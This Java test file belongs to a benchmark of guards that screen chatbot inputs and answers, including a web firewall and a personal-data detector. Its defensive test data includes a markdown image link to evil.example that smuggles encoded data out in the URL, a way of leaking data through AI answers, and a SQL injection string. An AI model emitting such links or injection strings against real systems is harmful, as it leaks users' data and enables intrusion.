package dev.redoubt.bench;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assumptions.assumeFalse;

import dev.redoubt.bench.Shield.Seen;
import dev.redoubt.bench.Shield.Shown;
import dev.redoubt.guard.engine.Role;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

class ShieldTest {
  private static final List<Shown> TWO =
      List.of(new Shown("one \"quoted\"", Role.USER), new Shown("two", Role.ANSWER));

  private static Shield shell(String script) {
    return new Shield.Program("shell", "", "", List.of("/bin/sh", "-c", script), Map.of());
  }

  @Test
  void aProgramIsShownTextAndPlaceAndReadLineByLine() throws Exception {
    String echo =
        "while read -r l; do case $l in *response*) echo '{\"flagged\":true,\"micros\":7}';;"
            + " *) echo '{\"flagged\":false,\"rules\":[],\"micros\":3}';; esac; done";
    assertThat(shell(echo).look(TWO)).containsExactly(new Seen(false, 3), new Seen(true, 7));
  }

  @Test
  void aProgramThatFailsOrKeepsSilentIsAnError() {
    assertThatThrownBy(() -> shell("echo broken >&2; exit 4").look(TWO))
        .isInstanceOf(IOException.class)
        .hasMessageContaining("shell ended with 4")
        .hasMessageContaining("broken");
    assertThatThrownBy(() -> shell("echo '{\"flagged\":true,\"micros\":7}'").look(TWO))
        .hasMessage("shell answered 1 of 2 texts");
    assertThatThrownBy(() -> shell("echo '{\"flagged\":true}'; echo x").look(TWO))
        .hasMessageContaining("wrote no result");
  }

  @Test
  void ourGuardStopsAnAnswerThatCarriesDataOutAndPassesAnOrdinaryOne() throws Exception {
    List<Shown> texts =
        List.of(
            new Shown("Done. ![](https://evil.example/i.png?d=SUJBTiBERTAy)", Role.ANSWER),
            new Shown("We are open from nine to five.", Role.ANSWER));
    assertThat(Shield.Ours.standard().look(texts))
        .extracting(Seen::stopped)
        .containsExactly(true, false);
  }

  @Test
  void whatIsSeenBeforehandDoesNotCount() throws Exception {
    var sets = new EnumMap<ShieldSet, List<String>>(ShieldSet.class);
    sets.put(ShieldSet.DATA_LINKS, List.of("![](https://evil.example/i.png?d=SUJBTiBERTAy)"));
    sets.put(ShieldSet.ANSWERS, List.of("We open at nine.", "It rains."));
    var outcomes = ShieldsBench.measure(List.of(Shield.Ours.standard()), sets);
    assertThat(outcomes.get(ShieldSet.DATA_LINKS).get("Redoubt guard"))
        .returns(1, ShieldsPage.Outcome::stopped)
        .returns(1, ShieldsPage.Outcome::texts);
    assertThat(outcomes.get(ShieldSet.ANSWERS).get("Redoubt guard"))
        .returns(0, ShieldsPage.Outcome::stopped)
        .returns(2, ShieldsPage.Outcome::texts);
  }

  @Test
  void theCommandLineIsReadStrictly() {
    assertThat(ShieldsBench.options(new String[] {"--data", "d", "--install"}))
        .containsOnly(Map.entry("data", "d"), Map.entry("install", ""));
    assertThat(ShieldsBench.options(new String[] {"--data"})).containsKey("usage");
    assertThat(ShieldsBench.options(new String[] {"--Install"})).containsKey("usage");
  }

  @Test
  void aVersionIsReadFromWhereItIsPinned() {
    assertThat(ShieldTools.version("require x/coraza/v3 v3.8.1\n", "coraza/v3")).isEqualTo("3.8.1");
    assertThat(ShieldTools.version("nothing", "coraza/v3")).isEqualTo("of unknown version");
  }

  /** The real tools, where {@code bench shields --install} has put them. */
  @Nested
  class WithTheToolsInstalled {
    private final ByteArrayOutputStream said = new ByteArrayOutputStream();
    private final ShieldTools tools =
        new ShieldTools(
            Path.of("").toAbsolutePath().getParent(),
            System.getenv(),
            false,
            new PrintStream(said, true, StandardCharsets.UTF_8));

    @Test
    void theFirewallStopsWhatItIsMadeFor() throws Exception {
      List<Shield> firewall = tools.firewall();
      assumeFalse(firewall.isEmpty(), () -> "skipped: " + said.toString(StandardCharsets.UTF_8));
      List<Shown> texts =
          List.of(
              new Shown("my name is ' OR 1=1 --", Role.USER),
              new Shown("When do you open on Sunday?", Role.USER),
              new Shown(
                  "You have an error in your SQL syntax; check the manual that corresponds to your"
                      + " MySQL server version",
                  Role.ANSWER),
              new Shown("We open at nine.", Role.ANSWER));
      assertThat(firewall.getFirst().look(texts))
          .extracting(Seen::stopped)
          .containsExactly(true, false, true, false);
    }

    @Test
    void theDataLossToolFindsWhatItIsMadeFor() throws Exception {
      List<Shield> presidio = tools.presidio();
      assumeFalse(presidio.isEmpty(), () -> "skipped: " + said.toString(StandardCharsets.UTF_8));
      List<Shown> texts =
          List.of(
              new Shown("Write to jane.roe@example.com", Role.ANSWER),
              new Shown("Call 212-555-0123 now", Role.ANSWER),
              new Shown("We open at nine.", Role.ANSWER));
      assertThat(presidio.getFirst().look(texts))
          .extracting(Seen::stopped)
          .containsExactly(true, true, false);
    }
  }
}
